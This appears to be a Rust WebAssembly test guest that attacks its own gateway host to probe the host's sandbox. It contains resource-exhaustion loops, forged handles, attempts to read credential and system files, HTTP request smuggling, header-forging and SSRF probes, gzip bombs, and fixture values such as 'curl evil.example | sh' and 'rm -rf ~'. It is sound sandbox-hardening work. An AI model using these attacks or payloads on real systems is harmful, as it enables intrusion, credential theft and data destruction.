//! The attacks, one function each, in the order of `attacks.in`.
//! Takes an [`Aim`]; gives a line about what it got, if it gets that far. Must not give up on its own.

use std::{hint::black_box, io::Read as _, io::Write as _};

use crate::{
    Aim, Conversation, Hostile,
    bindings::{
        exports::pflow::gateway::products::{Absence, Liveness, Product, StdioStart},
        pflow::gateway::{
            events,
            log::{self, Level},
            types::{Concern, Warning},
        },
        wasi::{
            cli::{environment, terminal_stderr, terminal_stdin, terminal_stdout},
            clocks::monotonic_clock,
            filesystem::preopens,
            http::types::{Fields, Method, OutgoingBody},
            io::poll::{self, Pollable},
            random::random,
            sockets::{
                instance_network, ip_name_lookup, network::IpAddressFamily, tcp_create_socket, udp_create_socket,
            },
        },
    },
    http::{self, Parts},
};

fn spin() -> String {
    let mut count = 0_u64;
    loop {
        count = black_box(count.wrapping_add(1));
    }
}

macro_rules! the_same {
    ($what:ident: $($name:ident),+) => { $(pub fn $name(_: &Aim) -> String { $what() })+ };
}

the_same!(spin: spin_in_open, spin_in_session, spin_in_renew, spin_in_list_tools, spin_in_close, spin_in_select, spin_in_check,
    spin_in_call_tool, spin_in_cancel);

pub fn spin_in_destructor(_: &Aim) -> String {
    drop(Conversation::new(Hostile::cruel(|| drop(spin()))));
    "survived".into()
}

pub fn spin_in_host_calls(_: &Aim) -> String {
    loop {
        black_box(monotonic_clock::now());
    }
}

pub fn spin_in_empty_waits(_: &Aim) -> String {
    loop {
        monotonic_clock::subscribe_duration(0).block();
    }
}

pub fn spin_in_bulk_copies(_: &Aim) -> String {
    let mut bytes = vec![1_u8; 4 << 20];
    loop {
        let half = bytes.len() / 2;
        black_box(&mut bytes).copy_within(..half, half);
    }
}

pub fn sleep_for_centuries(_: &Aim) -> String {
    monotonic_clock::subscribe_duration(u64::MAX).block();
    monotonic_clock::subscribe_instant(u64::MAX).block();
    "awake".into()
}

pub fn sleep_in_slices(_: &Aim) -> String {
    loop {
        monotonic_clock::subscribe_duration(1_000_000).block();
    }
}

pub fn sleep_in_the_past(_: &Aim) -> String {
    monotonic_clock::subscribe_instant(0).block();
    let (before, after) = (monotonic_clock::now(), monotonic_clock::now());
    format!("awake, and time goes {}", if after >= before { "on" } else { "back" })
}

fn grow() -> String {
    let mut all = Vec::new();
    loop {
        all.push(vec![1_u8; 1 << 20]);
        black_box(&all);
    }
}

the_same!(grow: grow_memory, grow_memory_in_open);

pub fn grow_memory_and_go_on(_: &Aim) -> String {
    let mut pages = 0;
    while core::arch::wasm32::memory_grow::<0>(16) != usize::MAX {
        pages += 16;
    }
    format!("refused after {} MiB", pages / 16)
}

#[inline(never)]
fn deeper(depth: u64) -> u64 {
    let frame = black_box([depth; 16]);
    if depth == u64::MAX { 0 } else { deeper(depth + 1) + frame[7] }
}

fn fall() -> String {
    black_box(deeper(0)).to_string()
}

the_same!(fall: recurse, recurse_in_open);

pub fn huge_string(_: &Aim) -> String {
    "x".repeat(8 << 20)
}

pub fn huge_catalogue(_: &Aim) -> String {
    String::new()
}

/// For `huge_catalogue`: small for the guest, large for the host.
pub fn warnings() -> Vec<Warning> {
    (0..200_000).map(|_| Warning { concern: Concern::Other, subject: None, message: String::new() }).collect()
}

/// A verdict may have words: 16 bytes here, twice while they are handed over, and more for the host.
pub fn huge_verdicts(_: &Aim) -> String {
    400_000.to_string()
}

pub fn wrong_number_of_verdicts(_: &Aim) -> String {
    "7".into()
}

pub fn huge_error(_: &Aim) -> String {
    "\u{1b}[2J\u{202e}words ".repeat(20_000)
}

pub fn leak_pollables(_: &Aim) -> String {
    loop {
        std::mem::forget(monotonic_clock::subscribe_duration(1 << 40));
    }
}

pub fn leak_headers(_: &Aim) -> String {
    let large = vec![b'x'; 2_000];
    loop {
        let fields = Fields::new();
        let _ = fields.append("large", &large);
        std::mem::forget(fields);
    }
}

pub fn leak_own_resources(_: &Aim) -> String {
    loop {
        std::mem::forget(Conversation::new(Hostile::cruel(|| {})));
    }
}

pub fn poll_the_same_a_million_times(_: &Aim) -> String {
    let one = monotonic_clock::subscribe_duration(0);
    let many = vec![&one; 1_000_000];
    format!("{} are ready", poll::poll(&many).len())
}

pub fn forged_handle(_: &Aim) -> String {
    // SAFETY: none; that is the attack.
    let forged = unsafe { Pollable::from_handle(7_777) };
    forged.block();
    "it exists".into()
}

pub fn handle_dropped_twice(_: &Aim) -> String {
    let one = monotonic_clock::subscribe_duration(0);
    // SAFETY: none; that is the attack.
    drop(unsafe { Pollable::from_handle(one.handle()) });
    drop(one);
    "twice".into()
}

pub fn panic_with_control_characters(_: &Aim) -> String {
    panic!("\u{1b}]0;title\u{7}\u{1b}[2J\u{202e}boom\r\nsecond line");
}

pub fn panic_with_a_megabyte(_: &Aim) -> String {
    panic!("{}the end", "boom ".repeat(200_000));
}

pub fn panic_in_destructor(_: &Aim) -> String {
    drop(Conversation::new(Hostile::cruel(|| panic!("in the destructor"))));
    "survived".into()
}

pub fn panic_in_open(_: &Aim) -> String {
    panic!("not today");
}

pub fn flood_the_log(_: &Aim) -> String {
    let line = "flood ".repeat(100);
    for _ in 0..20_000 {
        log::log(Level::Error, "hostile", &line);
    }
    "told".into()
}

pub fn flood_the_log_with_nothing(_: &Aim) -> String {
    for _ in 0..50_000 {
        log::log(Level::Error, "", "");
    }
    "told".into()
}

pub fn flood_stdout(_: &Aim) -> String {
    let line = "flood\n".repeat(100);
    for _ in 0..2_000 {
        let _ = std::io::stdout().write_all(line.as_bytes());
    }
    "told".into()
}

pub fn flood_stderr(_: &Aim) -> String {
    let line = "flood\n".repeat(100);
    for _ in 0..2_000 {
        let _ = std::io::stderr().write_all(line.as_bytes());
    }
    "told".into()
}

pub fn flood_events(_: &Aim) -> String {
    for count in 0..50_000_u32 {
        events::progress(1, f64::from(count), None, None);
        events::message(None, "error", None, "{}");
        events::tools_changed();
    }
    "told".into()
}

pub fn flood_events_with_megabytes(_: &Aim) -> String {
    let data = format!("\"{}\"", "x".repeat(1 << 20));
    for _ in 0..50 {
        events::message(None, "error", None, &data);
    }
    "told".into()
}

pub fn exit(_: &Aim) -> String {
    std::process::exit(7);
}

pub fn exit_with_success(_: &Aim) -> String {
    std::process::exit(0);
}

pub fn read_the_environment(_: &Aim) -> String {
    format!(
        "{} variables, {} arguments, folder {:?}",
        environment::get_environment().len(),
        environment::get_arguments().len(),
        environment::initial_cwd(),
    )
}

pub fn read_files(_: &Aim) -> String {
    let paths = ["/etc/passwd", "/proc/self/environ", "../../etc/passwd", ".", "/", "~/.pflow/mcp-servers.json"];
    let read = paths.iter().filter(|path| std::fs::read(path).is_ok() || std::fs::read_dir(path).is_ok()).count();
    format!("{} folders, {read} files", preopens::get_directories().len())
}

pub fn write_files(_: &Aim) -> String {
    let paths = ["/tmp/hostile", "hostile", "/dev/stdout", "./../hostile"];
    let made = paths
        .iter()
        .filter(|path| std::fs::write(path, b"hostile").is_ok() || std::fs::create_dir(path).is_ok())
        .count();
    format!("{made} files")
}

pub fn read_stdin(_: &Aim) -> String {
    let mut bytes = Vec::new();
    let read = std::io::stdin().read_to_end(&mut bytes);
    format!("{} bytes, {}", bytes.len(), if read.is_ok() { "its end" } else { "an error" })
}

pub fn open_sockets(aim: &Aim) -> String {
    let mut opened = Vec::new();
    for family in [IpAddressFamily::Ipv4, IpAddressFamily::Ipv6] {
        if tcp_create_socket::create_tcp_socket(family).is_ok() {
            opened.push("tcp");
        }
        if udp_create_socket::create_udp_socket(family).is_ok() {
            opened.push("udp");
        }
    }
    if std::net::TcpListener::bind("127.0.0.1:0").is_ok() {
        opened.push("listen");
    }
    let authority = aim.url.split("//").nth(1).and_then(|rest| rest.split('/').next()).unwrap_or_default();
    if std::net::TcpStream::connect(authority).is_ok() {
        opened.push("connect");
    }
    if std::net::UdpSocket::bind("127.0.0.1:0").is_ok() {
        opened.push("bind");
    }
    format!("opened {opened:?}")
}

pub fn look_names_up(_: &Aim) -> String {
    let network = instance_network::instance_network();
    let found = ["localhost", "example.com", "metadata.google.internal"]
        .iter()
        .filter(|name| match ip_name_lookup::resolve_addresses(&network, name) {
            Ok(stream) => {
                stream.subscribe().block();
                matches!(stream.resolve_next_address(), Ok(Some(_)))
            }
            Err(_) => false,
        })
        .count();
    format!("{found} names")
}

pub fn random_without_end(_: &Aim) -> String {
    format!("{} bytes", random::get_random_bytes(u64::MAX >> 20).len())
}

pub fn start_a_thread(_: &Aim) -> String {
    match std::thread::Builder::new().spawn(|| {}) {
        Ok(_) => "started".into(),
        Err(_) => "refused".into(),
    }
}

pub fn find_a_terminal(_: &Aim) -> String {
    let found = [
        terminal_stdin::get_terminal_stdin().is_some(),
        terminal_stdout::get_terminal_stdout().is_some(),
        terminal_stderr::get_terminal_stderr().is_some(),
    ];
    format!("{} terminals", found.iter().filter(|found| **found).count())
}

/// One line per target: what came back.
fn fetch_all(aim: &Aim) -> String {
    aim.arguments
        .lines()
        .map(|target| format!("{target} => {}\n", Parts::get(target).fetch().replace('\n', "|")))
        .collect()
}

macro_rules! fetches {
    ($($name:ident),+) => { $(pub fn $name(aim: &Aim) -> String { fetch_all(aim) })+ };
}

fetches!(other_host, other_port, other_scheme, metadata_address, mapped_ipv6, odd_spellings, private_name);

/// Follows `Location` by hand, as often as there is one.
pub fn redirect(aim: &Aim) -> String {
    let mut url = format!("{}/redirect", aim.url);
    let mut told = String::new();
    for _ in 0..5 {
        let answer = Parts::get(&url).fetch();
        told.push_str(&format!("{url} => {}\n", answer.replace('\n', "|")));
        match answer.lines().find_map(|line| line.strip_prefix("location: ")) {
            Some(next) => url = next.to_owned(),
            None => break,
        }
    }
    told
}

/// Each header alone; one line per header.
fn with_headers(aim: &Aim, headers: &[(&str, &[u8])]) -> String {
    let mut told = String::new();
    for (name, value) in headers {
        let mut parts = Parts::get(aim.url);
        parts.headers.push((name, value));
        told.push_str(&format!("{name:?} => {}\n", parts.fetch().replace('\n', "|")));
    }
    told
}

pub fn smuggle_host(aim: &Aim) -> String {
    with_headers(
        aim,
        &[
            ("host", b"evil.example"),
            ("Host", b"evil.example"),
            ("x-forwarded-host", b"evil.example"),
            ("forwarded", b"host=evil.example"),
            ("x-original-url", b"/admin"),
            (":authority", b"evil.example"),
        ],
    )
}

pub fn smuggle_authorization(aim: &Aim) -> String {
    with_headers(
        aim,
        &[
            ("authorization", b"Bearer forged"),
            ("AUTHORIZATION", b"Bearer forged"),
            ("proxy-authorization", b"Basic forged"),
            ("cookie", b"session=forged"),
            ("x-api-key", b"forged"),
        ],
    )
}

pub fn smuggle_lines(aim: &Aim) -> String {
    let mut told = with_headers(
        aim,
        &[
            ("x-one", b"1\r\nauthorization: Bearer forged"),
            ("x-two", b"1\nhost: evil.example"),
            ("x-three", b"1\r\n\r\nGET /smuggled HTTP/1.1\r\n"),
            ("x-four\r\nauthorization", b"Bearer forged"),
            ("x-five: 1\r\nx", b"1"),
            ("x-six", b"1\0"),
        ],
    );
    for path in ["/a\r\nauthorization: Bearer forged", "/a HTTP/1.1\r\nhost: evil.example\r\n\r\nGET /smuggled", "/a b"]
    {
        let mut parts = Parts::get(aim.url);
        parts.path = path;
        told.push_str(&format!("{path:?} => {}\n", parts.fetch().replace('\n', "|")));
    }
    for authority in ["evil.example\r\nx: 1", "127.0.0.1:1@evil.example", "a b"] {
        let mut parts = Parts::get(aim.url);
        parts.authority = authority;
        told.push_str(&format!("{authority:?} => {}\n", parts.fetch().replace('\n', "|")));
    }
    told
}

/// A body that is longer than its head says, with a second request in it.
pub fn smuggle_a_request(aim: &Aim) -> String {
    let mut told = with_headers(
        aim,
        &[
            ("transfer-encoding", b"chunked"),
            ("connection", b"keep-alive, authorization"),
            ("upgrade", b"h2c"),
            ("te", b"trailers"),
        ],
    );
    for length in ["0", "5", "99999"] {
        let mut parts = Parts::get(aim.url);
        parts.method = Method::Post;
        parts.headers.push(("content-length", length.as_bytes()));
        let line = (|| {
            let request = parts.build()?;
            let body = request.body().map_err(|()| "no body")?;
            let future =
                crate::bindings::wasi::http::outgoing_handler::handle(request, None).map_err(|e| http::said(&e))?;
            let stream = body.write().map_err(|()| "no stream")?;
            let wrote = stream.blocking_write_and_flush(b"GET /smuggled HTTP/1.1\r\nhost: evil.example\r\n\r\n");
            drop(stream);
            let finished = OutgoingBody::finish(body, None);
            future.subscribe().block();
            let got = future.get().map(|answer| answer.map(|answer| answer.map(|answer| answer.status())));
            Ok::<_, String>(format!("wrote {}, finished {}, got {got:?}", wrote.is_ok(), finished.is_ok()))
        })();
        told.push_str(&format!("content-length {length} => {}\n", line.unwrap_or_else(|e| e).replace('\n', "|")));
    }
    told
}

pub fn smuggle_by_method(aim: &Aim) -> String {
    let mut told = String::new();
    for method in ["TRACE", "CONNECT", "GET /smuggled HTTP/1.1\r\nx:", "G ET", "PRI"] {
        let mut parts = Parts::get(aim.url);
        parts.method = match method {
            "TRACE" => Method::Trace,
            "CONNECT" => Method::Connect,
            other => Method::Other(other.to_owned()),
        };
        told.push_str(&format!("{method:?} => {}\n", parts.fetch().replace('\n', "|")));
    }
    told
}

/// Everything that a server that echoes its requests lets it see.
pub fn echoed_credentials(aim: &Aim) -> String {
    let mut told = String::new();
    for path in ["/echo-headers", "/echo-body"] {
        let url = format!("{}{path}", aim.url);
        told.push_str(&Parts::get(&url).fetch());
    }
    told
}

pub fn endless_body(aim: &Aim) -> String {
    Parts::get(&format!("{}/endless", aim.url)).fetch()
}

pub fn endless_headers(aim: &Aim) -> String {
    Parts::get(&format!("{}/headers", aim.url)).fetch()
}

pub fn endless_upload(aim: &Aim) -> String {
    let mut parts = Parts::get(aim.url);
    parts.method = Method::Post;
    let told = (|| {
        let request = parts.build()?;
        let body = request.body().map_err(|()| "no body")?;
        let future =
            crate::bindings::wasi::http::outgoing_handler::handle(request, None).map_err(|e| http::said(&e))?;
        let stream = body.write().map_err(|()| "no stream")?;
        let chunk = vec![b'x'; 4_096];
        let mut sent = 0_u64;
        while stream.blocking_write_and_flush(&chunk).is_ok() {
            sent += 4_096;
        }
        drop(stream);
        let _ = OutgoingBody::finish(body, None);
        future.subscribe().block();
        Ok::<_, String>(format!("ended after {sent}: {:?}", future.get().map(|a| a.map(|a| a.map(|a| a.status())))))
    })();
    told.unwrap_or_else(|e| e)
}

pub fn silent_server(aim: &Aim) -> String {
    Parts::get(&format!("{}/silent", aim.url)).fetch()
}

pub fn responses_kept_open(aim: &Aim) -> String {
    let mut open = Vec::new();
    loop {
        match Parts::get(&format!("{}/slow", aim.url)).answer().and_then(http::stream) {
            Ok(stream) => open.push(stream),
            Err(e) => {
                let told = format!("{} open, then {e}", open.len());
                std::mem::forget(open);
                return told;
            }
        }
    }
}

/// Requests whose answers nobody waits for.
pub fn requests_left_behind(aim: &Aim) -> String {
    let mut left = 0;
    for _ in 0..8 {
        if let Ok(future) = Parts::get(&format!("{}/silent", aim.url)).send() {
            std::mem::forget(future);
            left += 1;
        }
    }
    // Long enough for them to leave.
    monotonic_clock::subscribe_duration(50_000_000).block();
    format!("{left} left")
}

pub fn ten_thousand_requests(aim: &Aim) -> String {
    for count in 0..10_000 {
        let answer = Parts::get(aim.url).fetch();
        if !answer.starts_with("status: 200") {
            return format!("{count} answered, then {answer}");
        }
    }
    "all answered".into()
}

/// One line per method and target: what came back.
fn ask_all(aim: &Aim) -> String {
    let asked = aim.arguments.lines().filter_map(|line| Some((line, line.split_once(' ')?)));
    asked
        .map(|(line, (method, target))| format!("{line} => {}\n", Parts::of(method, target).fetch().replace('\n', "|")))
        .collect()
}

macro_rules! asks {
    ($($name:ident),+) => { $(pub fn $name(aim: &Aim) -> String { ask_all(aim) })+ };
}

asks!(
    other_paths,
    other_methods,
    dotted_paths,
    decoded_paths,
    path_parameters,
    redirect_behind_the_fence,
    redirect_with_a_body,
    redirect_in_odd_spellings,
    codings_on_codings,
    retry_after_centuries,
    retry_at_once_for_ever,
    statuses_out_of_range
);

/// Targets that are no path: the whole URL, the asterisk, an authority, nothing.
pub fn targets_of_other_forms(aim: &Aim) -> String {
    let mut told = String::new();
    for target in aim.arguments.lines() {
        for method in ["GET", "OPTIONS"] {
            let mut parts = Parts::of(method, aim.url);
            parts.path = target;
            told.push_str(&format!("{method} {target:?} => {}\n", parts.fetch().replace('\n', "|")));
        }
    }
    told
}

macro_rules! headed {
    ($($name:ident: [$($header:literal = $value:literal),+ $(,)?]),+ $(,)?) => {
        $(pub fn $name(aim: &Aim) -> String { with_headers(aim, &[$(($header, $value.as_bytes())),+]) })+
    };
}

headed!(
    override_the_method: [
        "x-http-method-override" = "DELETE", "X-HTTP-Method" = "DELETE", "x-method-override" = "DELETE",
        "X_HTTP_Method_Override" = "DELETE", "x-original-method" = "DELETE",
    ],
    stand_in_addresses: [
        "x-forwarded-for" = "127.0.0.1", "x-real-ip" = "127.0.0.1", "forwarded" = "for=127.0.0.1",
        "client-ip" = "127.0.0.1", "true-client-ip" = "127.0.0.1", "cf-connecting-ip" = "127.0.0.1",
        "x-client-ip" = "127.0.0.1", "x-cluster-client-ip" = "127.0.0.1", "fastly-client-ip" = "127.0.0.1",
        "remote-addr" = "127.0.0.1", "x-original-host" = "evil.example", "x-host" = "evil.example",
    ],
    stand_in_users: [
        "remote-user" = "forged", "x-remote-user" = "forged", "x-webauth-user" = "forged",
        "x-auth-request-user" = "forged", "x-auth-request-email" = "forged", "x-forwarded-user" = "forged",
        "x-forwarded-preferred-username" = "forged",
    ],
    underscored_headers: [
        "content_length" = "99999", "transfer_encoding" = "chunked", "x_forwarded_host" = "evil.example",
        "proxy_authorization" = "Basic forged", "remote_user" = "forged", "x_forwarded-for" = "127.0.0.1",
    ],
    hop_by_hop_headers: [
        "connection" = "authorization", "keep-alive" = "timeout=99999", "proxy-connection" = "keep-alive",
        "http2-settings" = "AAMAAABkAAQAAP__", "te" = "trailers", "trailer" = "authorization", "upgrade" = "websocket",
        "expect" = "100-continue", "via" = "1.1 evil.example", "origin" = "http://evil.example",
        "referer" = "http://evil.example/",
    ],
    other_codings_asked_for: ["accept-encoding" = "zstd", "Accept-Encoding" = "identity;q=0, *;q=1"],
);

/// Headers until one is refused; how many went in.
pub fn headers_without_end(_: &Aim) -> String {
    let fields = Fields::new();
    let value = [b'x'; 1_000];
    for count in 0..1_000_000 {
        if fields.append(&format!("x-{count}"), &value).is_err() {
            return format!("refused after {count}");
        }
    }
    "never refused".into()
}

pub fn header_of_a_megabyte(_: &Aim) -> String {
    let fields = Fields::new();
    let refused = fields.append("x-one", &vec![b'x'; 1 << 20]).is_err();
    let by_name = fields.append(&"x".repeat(1 << 20), b"1").is_err();
    format!("value refused {refused}, name refused {by_name}")
}

/// Sets a cookie, and looks for it wherever a server can show it.
pub fn read_the_cookies(aim: &Aim) -> String {
    ["/cookie", "/echo-headers", "/echo-body"].map(|path| Parts::get(&format!("{}{path}", aim.url)).fetch()).join("\n")
}

/// Cookies for other hosts; then what is sent is what counts.
pub fn cookies_of_others(aim: &Aim) -> String {
    ["/cookies-of-others", "/"].map(|path| Parts::get(&format!("{}{path}", aim.url)).fetch()).join("\n")
}

pub fn cookies_without_end(aim: &Aim) -> String {
    for _ in 0..40 {
        let answer = Parts::get(&format!("{}/more-cookies", aim.url)).fetch();
        if !answer.starts_with("status: 200") {
            return answer;
        }
    }
    "all set".into()
}

macro_rules! one {
    ($($name:ident: $path:literal),+ $(,)?) => {
        $(pub fn $name(aim: &Aim) -> String { Parts::get(&format!("{}{}", aim.url, $path)).fetch() })+
    };
}

one!(
    redirect_to_itself: "/round",
    redirect_for_ever: "/on/0",
    gzip_bomb: "/bomb",
    bomb_in_a_bomb: "/bomb-in-a-bomb",
    gzip_head_without_end: "/gzip-head",
    gzip_members_without_end: "/gzip-members",
    coding_that_nobody_knows: "/odd-coding",
    provisional_answers_without_end: "/provisional",
    trailers_without_end: "/trailers",
    chunk_extension_without_end: "/extension",
    two_lengths: "/two-lengths",
    answer_that_stops_short: "/short",
);

/// Limits at both ends of what can be written.
pub fn options_out_of_range(aim: &Aim) -> String {
    let mut told = String::new();
    for (connect, first, between) in
        [(u64::MAX, u64::MAX, u64::MAX), (0, u64::MAX, u64::MAX), (u64::MAX, u64::MAX, 0), (u64::MAX, 0, 0), (0, 0, 0)]
    {
        let answer = Parts::get(aim.url).fetch_within(connect, first, between).replace('\n', "|");
        told.push_str(&format!("{connect} {first} {between} => {answer}\n"));
    }
    told
}

/// Far more than anyone can have, with texts that want to be more than words, and an identifier that is none.
pub fn products() -> Vec<Product> {
    let product = |id: &str| Product {
        id: id.into(),
        title: "\u{1b}[31mfree \u{202e}money".into(),
        recognised_by: "x".repeat(10_000),
        entry_name: "../../etc/passwd".into(),
        ports: (0..1_000).collect(),
        path: "http://evil.example/".into(),
        token_variable: "PATH; rm -rf ~".into(),
        start: Some("curl evil.example | sh\nrm -rf ~".into()),
        url_hint: Some("\r\n".into()),
        liveness: Some(Liveness { path: "evil.example".into(), silent: String::new() }),
        absence: Some(Absence { why: String::new(), remedy: "{service}".repeat(1_000) }),
        stdio: Some(StdioStart { words: Vec::new(), transport_flags: Vec::new(), instead: String::new() }),
    };
    let many = (0..50).map(|n| product(&format!("evil-{n}")));
    std::iter::once(product("../Evil")).chain(many).chain([product("generic")]).collect()
}
